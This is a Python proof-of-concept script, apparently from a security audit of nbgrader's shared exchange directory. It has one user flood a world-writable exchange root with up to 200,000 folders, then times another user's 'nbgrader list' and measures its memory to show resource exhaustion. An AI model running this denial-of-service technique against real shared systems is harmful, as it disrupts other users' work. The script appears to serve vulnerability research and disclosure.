"""a07: a02 scaled: eve's own course folder in the shared exchange root with N assignment folders (each a name only);
bob's `nbgrader list` with no course id (nbgrader's default for a student's home; the assignment_list extension lists
every course when none is configured) walks them all, unguarded. Time and peak memory of bob's list against N."""
import os, subprocess, shutil, resource, time
CLONE = (__import__("os").environ.get("ATTACK_USER_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", "..", ".."))); NB = f"{CLONE}/.venv/bin/nbgrader"
base = "/tmp/attack47-user-ex7"
shutil.rmtree(base, ignore_errors=True)
os.makedirs(base); os.chown(base, 65534, 65534)
root = f"{base}/exchange"
os.makedirs(root); os.chown(root, 65534, 65534); os.chmod(root, 0o1777)
def as_user(uid, cmd, cwd):
    env = {"PATH": f"{CLONE}/.venv/bin:/usr/bin:/bin", "HOME": cwd, "LANG": "C.UTF-8"}
    t = time.time()
    r = subprocess.run(["/usr/bin/time", "-f", "maxrss_kb=%M", "setpriv", "--reuid", str(uid), "--regid", str(uid), "--clear-groups"] + cmd,
                       cwd=cwd, env=env, capture_output=True, timeout=1200)
    return r, time.time() - t
r, el = as_user(2002, [NB, "list", f"--Exchange.root={root}"], "/home/bob47")
print(f"baseline (empty root): {el:.1f}s {r.stderr.decode()[-60:].strip()}")
made = 0
for n in (50_000, 200_000):
    code = f'''
import os
c = "{root}/evil/outbound"
os.makedirs(c, exist_ok=True)
for i in range({made}, {n}): os.mkdir(f"{{c}}/a{{i:07d}}")
'''
    t = time.time()
    subprocess.run(["setpriv", "--reuid", "2001", "--regid", "2001", "--clear-groups", "/usr/bin/python3", "-c", code], check=True)
    print(f"eve made {n - made} more folders in {time.time() - t:.1f}s")
    made = n
    r, el = as_user(2002, [NB, "list", f"--Exchange.root={root}"], "/home/bob47")
    err = r.stderr.decode(errors="replace")
    print(f"N={n}: bob's nbgrader list rc={r.returncode} in {el:.1f}s, {err.count(chr(10))} lines on stderr, {err.strip().splitlines()[-1]}")
shutil.rmtree(base, ignore_errors=True)
